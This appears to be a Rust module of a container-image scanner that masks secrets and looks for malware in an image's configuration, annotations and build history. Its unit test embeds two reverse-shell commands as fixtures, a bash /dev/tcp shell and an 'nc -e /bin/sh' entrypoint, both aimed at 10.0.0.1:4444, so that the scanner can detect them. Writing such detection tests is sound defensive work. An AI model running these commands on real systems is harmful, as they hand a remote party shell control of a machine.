//! An image's own documents, its configuration and its manifest's annotations: searched for secrets, which do not go on from here,
//! and for malware.

use std::collections::BTreeMap;

use lazaret::exposure::Exposure;
use lazaret::image::{Image, ImageConfig};
use lazaret::inventory::{Gap, GapKind};
use lazaret::path::LayerPath;

use crate::compose::{Fate, LayerExposure, LayerGap};
use crate::local::Searching;

/// The documents of an image with the secrets in them masked, and what was found of secrets and malware.
pub struct Documents {
    /// Its configuration.
    pub config: ImageConfig,
    /// Annotations of its manifest.
    pub annotations: BTreeMap<String, String>,
    /// What they expose, sorted.
    pub exposures: Vec<LayerExposure>,
    /// Which of them were not searched to their ends, and are masked whole.
    pub gaps: Vec<LayerGap>,
}

/// Searches the documents of `image`.
pub fn documents(image: &Image, searching: &Searching) -> Documents {
    let (mut config, mut annotations) = (image.config.clone(), image.annotations.clone());
    let mut exposures: Vec<LayerExposure> =
        command(&config, searching).into_iter().map(|exposure| of(None, exposure)).collect();
    let mut gaps = Vec::new();
    let mut search = |path: String, layer: Option<u32>, text: &mut String, is_word: bool| {
        let path = LayerPath::from(path.as_str());
        if !is_word {
            exposures.extend(searching.malware(&path, text).into_iter().map(|exposure| of(layer, exposure)));
        }
        let Some(found) = searching.document(&path, text) else { return };
        *text = found.text;
        exposures.extend(found.exposures.into_iter().map(|exposure| of(layer, exposure)));
        if found.is_cut {
            let reason = "more in it looks like secrets than is searched; it is not shown".into();
            gaps.push(LayerGap { layer, gap: Gap { kind: GapKind::Limit, path, reason } });
        }
    };
    let run = &mut config.config;
    let lists = [("Env", &mut run.env, false), ("Entrypoint", &mut run.entrypoint, true), ("Cmd", &mut run.cmd, true)];
    for (name, values, are_words) in lists {
        for (index, value) in values.iter_mut().enumerate() {
            search(format!("config.{name}[{index}]"), None, value, are_words);
        }
    }
    for (name, value) in &mut run.labels {
        search(format!("config.Labels.{name}"), None, value, false);
    }
    for (name, value) in &mut annotations {
        search(format!("manifest.annotations.{name}"), None, value, false);
    }
    let makes_layers = config.history.iter().filter(|step| !step.empty_layer).count() == config.rootfs.diff_ids.len();
    let mut layer = 0;
    for (index, step) in config.history.iter_mut().enumerate() {
        let made = (makes_layers && !step.empty_layer).then_some(layer);
        layer += u32::from(!step.empty_layer);
        search(format!("history[{index}].created_by"), made, &mut step.created_by, false);
    }
    exposures.sort_unstable();
    Documents { config, annotations, exposures, gaps }
}

/// Malware in the command that the image runs, which is read whole: each of its words alone says nothing.
fn command(config: &ImageConfig, searching: &Searching) -> Vec<Exposure> {
    let run = &config.config;
    let name = if run.entrypoint.is_empty() { "config.Cmd" } else { "config.Entrypoint" };
    let words = [run.entrypoint.as_slice(), run.cmd.as_slice()].concat();
    searching.malware(&name.into(), &words.join(" "))
}

fn of(layer: Option<u32>, exposure: Exposure) -> LayerExposure {
    LayerExposure { layer, state: Fate::Present, exposure }
}

#[cfg(test)]
mod tests {
    use std::error::Error;

    use lazaret::image::Platform;

    use super::*;

    const DIGEST: &str = "sha256:e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855";

    #[test]
    fn what_an_image_runs_is_looked_at_as_it_is_run() -> Result<(), Box<dyn Error>> {
        let shell = ["RUN bash -i >& /dev", "/tcp/10.0.0.1/4444 0>&1"].concat();
        let config = serde_json::from_value(serde_json::json!({
            "config": { "Entrypoint": ["nc", "-e", "/bin/sh"], "Cmd": ["10.0.0.1", "4444"], "Env": ["PATH=/bin"] },
            "history": [{ "created_by": shell }],
            "rootfs": { "diff_ids": [DIGEST] },
        }))?;
        let (digest, platform) = (DIGEST.parse()?, Platform::host());
        let image = Image { source: "oci", digest, platform, config, annotations: BTreeMap::new(), layers: Vec::new() };
        let found = documents(&image, &Searching::default()).exposures;
        let told: Vec<_> = found.iter().map(|found| (found.exposure.path.to_string(), found.layer)).collect();
        assert_eq!(told, [("config.Entrypoint".to_owned(), None), ("history[0].created_by".to_owned(), Some(0))]);
        Ok(())
    }
}
